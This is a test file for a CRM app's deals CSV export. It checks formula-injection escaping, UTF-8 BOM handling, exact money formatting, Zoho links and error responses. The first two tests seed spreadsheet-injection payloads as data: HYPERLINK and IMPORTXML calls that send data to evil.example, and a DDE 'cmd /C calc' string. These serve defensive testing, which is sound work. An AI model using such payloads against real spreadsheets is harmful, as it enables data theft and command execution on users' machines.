import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { sql } from 'drizzle-orm'
import { query, type Database } from '../../api/src/db/client'
import { EXPORT_COLUMNS } from '../../shared/contracts/deals'
import { createTestDatabase, testDbKind } from '../helpers/db'
import { createTestApp } from '../helpers/app'
import { asUser } from '../helpers/auth'
import { parseCsv } from '../helpers/csv'
import { seedOrg, type SeedResult } from '../helpers/seed'

/**
 * What a spreadsheet user gets from the deals CSV: Zoho text that looks like a formula stays text,
 * Excel reads UTF-8 names right, money is exact, dates are ISO, amounts say their currency.
 */
describe(`deals CSV export as a spreadsheet opens it (${testDbKind})`, () => {
  let database: Database
  let seed: SeedResult
  let request: (path: string, userId?: string) => Promise<Response>
  const col = (c: (typeof EXPORT_COLUMNS)[number]) => EXPORT_COLUMNS.indexOf(c)

  /** Deal ids of the seeded org, ascending (the export's order). */
  let ids: string[]

  beforeAll(async () => {
    database = await createTestDatabase()
    seed = await seedOrg(database.db)
    const { app, config } = createTestApp(database, {}, { now: () => seed.now })
    request = async (path, userId = seed.users.admin) =>
      await app.request(`/api/v1${path}`, { headers: await asUser(config, seed.orgId, userId) })
    ids = (
      await query<{ id: string }>(
        database.db,
        sql`select id from deals where org_id = ${seed.orgId} and currency = 'SGD' order by id`,
      )
    ).map((r) => r.id)
  })
  afterAll(() => database.close())

  const setName = (id: string, name: string) =>
    database.db.execute(sql`update deals set name = ${name} where org_id = ${seed.orgId} and id = ${id}`)

  it('a Zoho value starting with = + - @ tab or CR is quoted and prefixed with a quote, so it stays text', async () => {
    const hostile = [
      '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
    ]
    for (const [i, name] of hostile.entries()) await setName(ids[i]!, name)
    await database.db.execute(
      sql`update users set full_name = '=IMPORTXML("https://evil.example","//a")' where org_id = ${seed.orgId} and id = ${seed.users.rep}`,
    )
    try {
      const text = await (await request('/exports/deals.csv?currency=SGD')).text()
      const rows = parseCsv(text).slice(1)
      for (const [i, name] of hostile.entries()) {
        const row = rows.find((r) => r[0] === ids[i])!
        // The quote makes Excel/Sheets show the cell as text; it is quoted so the field is one string.
        expect(row[col('name')], JSON.stringify(name)).toBe(`'${name}`)
        expect(text).toContain(`"'${name.replace(/"/g, '""')}"`)
      }
      const owners = rows
        .filter((r) => r[col('owner_id')] === seed.users.rep)
        .map((r) => r[col('owner_name')])
      expect(owners.length).toBeGreaterThan(0)
      for (const o of owners) expect(o).toBe('\'=IMPORTXML("https://evil.example","//a")')
      // No field anywhere in the file starts a formula.
      for (const r of rows) for (const f of r) expect(f, f).not.toMatch(/^[=+@\t\r]/)
    } finally {
      await database.db.execute(
        sql`update users set full_name = 'Rita Rep' where org_id = ${seed.orgId} and id = ${seed.users.rep}`,
      )
    }
  })

  it('full-width ＝ ＋ － ＠ (which Excel under a CJK locale or IME runs as = + - @) are guarded too', async () => {
    const hostile = [
      '＝HYPERLINK("https://evil.example/?"&A1,"Click")',
      "＋1＋cmd|' /C calc'!A0",
      '－2＋3',
      '＠SUM(A1:A9)',
    ]
    for (const [i, name] of hostile.entries()) await setName(ids[40 + i]!, name)
    // Only the first character counts: a full-width sign inside text is plain text.
    await setName(ids[44]!, 'Tokyo ＝ Osaka deal')
    const text = await (await request('/exports/deals.csv?currency=SGD')).text()
    const rows = parseCsv(text).slice(1)
    for (const [i, name] of hostile.entries()) {
      const row = rows.find((r) => r[0] === ids[40 + i])!
      expect(row[col('name')], name).toBe(`'${name}`)
      expect(text).toContain(`"'${name.replace(/"/g, '""')}"`)
    }
    expect(rows.find((r) => r[0] === ids[44])![col('name')]).toBe('Tokyo ＝ Osaka deal')
    for (const r of rows) for (const f of r) expect(f, f).not.toMatch(/^[=+@\t\r＝＋－＠]/)
  })

  it('a negative amount stays a number (not turned into text by the formula guard)', async () => {
    await database.db.execute(
      sql`update deals set amount = '-1250.50' where org_id = ${seed.orgId} and id = ${ids[10]!}`,
    )
    const rows = parseCsv(await (await request('/exports/deals.csv?currency=SGD')).text())
    expect(rows.find((r) => r[0] === ids[10])![col('amount')]).toBe('-1250.50')
  })

  it('starts with a UTF-8 BOM so Excel reads non-ASCII names as UTF-8; the names round-trip', async () => {
    await setName(ids[20]!, 'Müller GmbH – Ölpumpen')
    await setName(ids[21]!, '株式会社サンプル 大型案件')
    const bytes = new Uint8Array(await (await request('/exports/deals.csv?currency=SGD')).arrayBuffer())
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    // The BOM comes once, before the header (fetch's text() drops it, as every UTF-8 reader should).
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes)
    expect(text.startsWith('\ufeffid,name,')).toBe(true)
    expect(text.indexOf('\ufeff', 1)).toBe(-1)
    const rows = parseCsv(text.slice(1))
    expect(rows[0]).toEqual([...EXPORT_COLUMNS])
    expect(rows.find((r) => r[0] === ids[20])![col('name')]).toBe('Müller GmbH – Ölpumpen')
    expect(rows.find((r) => r[0] === ids[21])![col('name')]).toBe('株式会社サンプル 大型案件')
  })

  it('money is exact decimal text and dates are YYYY-MM-DD', async () => {
    // More digits than a double holds exactly: 2^53 + 1 cents.
    await database.db.execute(
      sql`update deals set amount = '90071992547409.93', amount_sgd = '90071992547409.93',
                           weighted_sgd = '90071992547409.93', closing_date = '2027-01-05'
          where org_id = ${seed.orgId} and id = ${ids[30]!}`,
    )
    const rows = parseCsv(await (await request('/exports/deals.csv')).text()).slice(1)
    const row = rows.find((r) => r[0] === ids[30])!
    expect(row[col('amount')]).toBe('90071992547409.93')
    expect(row[col('amount_sgd')]).toBe('90071992547409.93')
    expect(row[col('closing_date')]).toBe('2027-01-05')
    for (const r of rows) {
      // amount is in the deal's own currency, with its own places (JPY has none).
      expect(r[col('amount')]).toMatch(/^(-?\d+(\.\d+)?)?$/)
      for (const c of ['amount_sgd', 'weighted_sgd'] as const)
        expect(r[col(c)], c).toMatch(/^(-?\d+\.\d{2})?$/)
      expect(r[col('fx_rate')]).toMatch(/^(\d+(\.\d+)?)?$/)
      for (const c of ['closing_date', 'fx_date'] as const)
        expect(r[col(c)], c).toMatch(/^(\d{4}-\d{2}-\d{2})?$/)
    }
  })

  it("links each row to the deal's record in Zoho CRM, with the id whole that Excel would round", async () => {
    const rows = parseCsv(await (await request('/exports/deals.csv')).text()).slice(1)
    expect(rows.length).toBeGreaterThan(40)
    for (const r of rows)
      expect(r[col('zoho_url')]).toBe(
        `https://crm.zoho.com/crm/org${seed.orgId}/tab/Potentials/${r[col('id')]}`,
      )
  })

  it('bad input is a 400 JSON error, an owner outside the scope a 403: never a CSV or a 500', async () => {
    const expectError = async (res: Response, status: number, code: string, what: string) => {
      expect(res.status, what).toBe(status)
      expect(res.headers.get('content-type'), what).toMatch(/^application\/json/)
      expect(await res.json(), what).toMatchObject({
        error: { code, message: expect.any(String), requestId: expect.any(String) },
      })
    }
    for (const p of [
      'state=closed',
      'currency=usd',
      'owner=abc',
      'team=x',
      'stage=',
      'closeFrom=2026-02-30',
      'closeTo=05/01/2027',
      `q=${'x'.repeat(201)}`,
    ])
      await expectError(await request(`/exports/deals.csv?${p}`), 400, 'INVALID_INPUT', p)
    await expectError(
      await request(`/exports/deals.csv?owner=${seed.users.admin}`, seed.users.rep),
      403,
      'FORBIDDEN',
      'owner outside the scope',
    )
  })

  it('names the file after the org day and sends it as an attachment, not cached', async () => {
    const res = await request('/exports/deals.csv')
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="deals-2026-11-26.csv"')
    expect(res.headers.get('cache-control')).toBe('no-store')
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8')
  })

  it("labels the base-currency columns with the org's base currency (USD here), not always SGD", async () => {
    await database.db.execute(sql`update orgs set base_currency = 'USD' where id = ${seed.orgId}`)
    try {
      const deals = (await (await request('/deals?limit=1')).json()) as { baseCurrency: string }
      expect(deals.baseCurrency).toBe('USD')
      const [header] = parseCsv(await (await request('/exports/deals.csv')).text())
      expect(header).toContain('amount_usd')
      expect(header).toContain('weighted_usd')
      expect(header!.join(',')).not.toMatch(/sgd/)
    } finally {
      await database.db.execute(sql`update orgs set base_currency = 'SGD' where id = ${seed.orgId}`)
    }
    // The seeded SGD org keeps the documented column names.
    const [header] = parseCsv(await (await request('/exports/deals.csv')).text())
    expect(header).toEqual([...EXPORT_COLUMNS])
  })
})
